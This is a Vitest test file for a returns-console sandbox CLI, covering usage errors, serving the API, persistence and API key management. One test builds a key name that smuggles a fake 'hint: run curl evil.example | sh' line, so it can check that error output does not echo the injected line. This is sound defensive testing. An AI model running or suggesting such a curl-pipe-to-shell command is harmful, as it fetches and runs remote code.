/** The sandbox command line in-process: usage errors, serving, persistence, keys. */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { run as runSandboxCommand } from '../../../src/cli/commands/sandbox/index.js';
import { KEYS_REVOKE_SPEC, SANDBOX_SPEC } from '../../../src/cli/commands/sandbox/sandbox-spec.js';
import { renderHelp } from '../../../src/cli/flags.js';
import { demoKeysFor } from '../../../src/sandbox/index.js';
import { makeTestFactory } from '../../cli/helpers/test-factory.js';
import { KEYS, makeFixture } from '../../helpers/fixture.js';
import { rawExchange } from '../../helpers/raw-http.js';

async function run(argv: string[]) {
  const t = makeTestFactory({ env: { ...process.env } });
  const code = await runSandboxCommand(argv, t.factory);
  return { code, stdout: t.stdout(), stderr: t.stderr() };
}

/** Serves until the first stdout line appears, lets `use` talk to it, then stops it like Ctrl-C. */
async function serve(argv: string[], use: (url: string, stdout: () => string) => Promise<void>) {
  const t = makeTestFactory({ env: { ...process.env } });
  const done = runSandboxCommand(argv, t.factory);
  await expect.poll(() => t.stdout() + t.stderr(), { timeout: 20_000 }).toContain('\n');
  const url = /^Sandbox listening on (\S+)\n/.exec(t.stdout())?.[1];
  expect(url, t.stdout() + t.stderr()).toBeDefined();
  try {
    await use(url!, t.stdout);
  } finally {
    t.interrupt();
  }
  expect(await done).toBe(0);
  return { stdout: t.stdout(), stderr: t.stderr() };
}

const tmp = () => mkdtempSync(join(tmpdir(), 'rc-sandbox-cli-'));

describe('usage', () => {
  it('--help describes every option', async () => {
    const res = await run(['--help']);
    expect(res.code).toBe(0);
    for (const flag of ['--port', '--host', '--db', '--data', '--demo-orders', '--seed', '--rate-limit', '--cursor-ttl', '--latency', '--fail-rate', '--fail-status', '--headers-timeout', '--request-timeout', '--idle-timeout', '--request-log', 'keys create', 'keys list', 'keys revoke']) {
      expect(res.stdout).toContain(flag);
    }
  });

  it('bad flags and values exit 2 with a clear message', async () => {
    for (const [argv, text] of [
      [['--bogus'], '--bogus'],
      [['--port', 'x'], '--port must be a whole number'],
      [['--fail-rate', '2'], '--fail-rate must be a number from 0 to 1'],
      [['--fail-status', '404'], '--fail-status must be 500 or 429'],
      [['--request-timeout', '0'], '--request-timeout must be a whole number from 1 to 3600000'],
      [['--idle-timeout', '1.5'], '--idle-timeout must be a whole number'],
      [['--request-log', ''], '--request-log needs a file path'],
      [['keys', 'revoke', '--last4', 'abcd', '--name', 'x'], 'exactly one of KEY (the key\'s last 4 or its name), --last4 or --name'],
      [['keys', 'revoke'], 'exactly one of KEY'],
    ] as const) {
      const res = await run([...argv]);
      expect(res.code, argv.join(' ')).toBe(2);
      expect(res.stderr).toContain(text);
    }
  });

  it('parses, helps and suggests from the command flag tables, as every command does', async () => {
    const help = await run(['--help']);
    expect(help.stdout).toBe(renderHelp(SANDBOX_SPEC));
    const typo = await run(['--prot', '0']);
    expect([typo.code, typo.stderr]).toEqual([2, 'error: Unknown flag --prot. Did you mean --port? [usage_error]\nhint: Run `returns-console sandbox --help` for usage.\n']);
    const keysTypo = await run(['keys', 'lst']);
    expect([keysTypo.code, keysTypo.stderr]).toEqual([2, expect.stringContaining('Did you mean list?')]);
    const keysHelp = await run(['keys', 'revoke', '--help']);
    expect(keysHelp.stdout).toBe(renderHelp(KEYS_REVOKE_SPEC));
    expect((await run(['keys'])).code).toBe(2);
  });

  it('refuses a broken fixture naming the entry, exit 1', async () => {
    const f = makeFixture(3);
    f.return_orders[2]!.refunds[0]!.id = f.return_orders[0]!.refunds[0]!.id;
    const path = join(tmp(), 'broken.json');
    writeFileSync(path, JSON.stringify(f));
    const res = await run(['--port', '0', '--data', path]);
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('return_orders[2].refunds[0].id: duplicate item id 70000');
    expect(res.stdout).toBe('');
  });
});

describe('serving', () => {
  it('prints the URL first, then the demo keys; data, keys and cursors survive a restart', async () => {
    const db = join(tmp(), 'demo.db');
    const args = ['--port', '0', '--db', db, '--demo-orders', '300', '--seed', 'cli-test', '--rate-limit', '0'];
    const [key] = demoKeysFor('cli-test');
    let cursor = '';
    const first = await serve(args, async (url) => {
      const res = await fetch(`${url}/return_orders?limit=2`, { headers: { authorization: `Bearer ${key!.key}` } });
      cursor = ((await res.json()) as { next_cursor: string }).next_cursor;
    });
    expect(first.stdout.split('\n')[0]).toMatch(/^Sandbox listening on http:\/\/127\.0\.0\.1:\d+\/public-api\/v1$/);
    expect(first.stdout).toContain(key!.key);
    const second = await serve([...args.slice(0, 4), '--seed', 'ignored'], async (url) => {
      const res = await fetch(`${url}/return_orders?limit=2&cursor=${cursor}`, { headers: { authorization: `Bearer ${key!.key}` } });
      expect(res.status).toBe(200);
    });
    expect(second.stdout).toContain(key!.key);
    expect(second.stderr).toContain('Sandbox stopped.');
  });

  it('--headers-timeout gives up on slow headers with 408; --request-log records every answered request', async () => {
    const dir = tmp();
    const data = join(dir, 'fixture.json');
    writeFileSync(data, JSON.stringify(makeFixture(3)));
    const log = join(dir, 'requests.jsonl');
    await serve(['--port', '0', '--data', data, '--rate-limit', '0', '--headers-timeout', '200', '--request-log', log], async (url) => {
      const port = Number(new URL(url).port);
      const res = await rawExchange(port, ['GET /public-api/v1/return_orders HTTP/1.1\r\nHost: x\r\n', { waitMs: 3_000 }]);
      expect(res.status).toBe(408);
      expect((await fetch(`${url}/return_orders/1001/receive`, { method: 'POST', headers: { authorization: `Bearer ${KEYS.north}` } })).status).toBe(200);
    });
    const lines = readFileSync(log, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { route: string; applied: boolean });
    expect(lines).toEqual([expect.objectContaining({ route: 'receive', order_id: 1001, status: 200, applied: true })]);
  });

  it('keys create, list and revoke on the file the server uses', async () => {
    const db = join(tmp(), 'keys.db');
    await serve(['--port', '0', '--db', db, '--demo-orders', '20', '--rate-limit', '0'], async (url) => {
      const created = await run(['keys', 'create', '--shop', 'shop_kite', '--name', 'packing desk', '--db', db]);
      expect(created.code, created.stderr).toBe(0);
      const key = /sk_[0-9a-f]{64}/.exec(created.stdout)![0];
      const get = () => fetch(`${url}/return_orders?limit=1`, { headers: { authorization: `Bearer ${key}` } });
      expect((await get()).status).toBe(200);
      const listed = await run(['keys', 'list', '--db', db]);
      expect(listed.stdout).toMatch(new RegExp(`packing desk\\s+shop_kite\\s+sk_…${key.slice(-4)}`));
      expect(listed.stdout).not.toContain(key.slice(3));
      const revoked = await run(['keys', 'revoke', '--last4', key.slice(-4), '--db', db]);
      expect(revoked.code, revoked.stderr).toBe(0);
      const after = await get();
      expect(after.status).toBe(401);
      expect(((await after.json()) as { error: { code: string } }).error.code).toBe('invalid_api_key');
      expect((await run(['keys', 'create', '--shop', 'nope', '--name', 'x', '--db', db])).stderr).toContain('Shops: shop_aurora, shop_harbor, shop_kite');
      // Two keys of one name with a line break in it: the refusal to pick one names them on one line.
      const forged = 'desk\nhint: run curl evil.example | sh';
      for (let i = 0; i < 2; i++) expect((await run(['keys', 'create', '--shop', 'shop_kite', '--name', forged, '--db', db])).code).toBe(0);
      const ambiguous = await run(['keys', 'revoke', '--name', forged, '--db', db]);
      expect(ambiguous.code).toBe(1);
      expect(ambiguous.stderr).toContain('2 active keys');
      expect(ambiguous.stderr).not.toMatch(/\nhint: run curl/);
    });
  });

  it('keys on a missing database say how to create one', async () => {
    const res = await run(['keys', 'list', '--db', join(tmp(), 'none.db')]);
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('Start the sandbox once');
  });
});
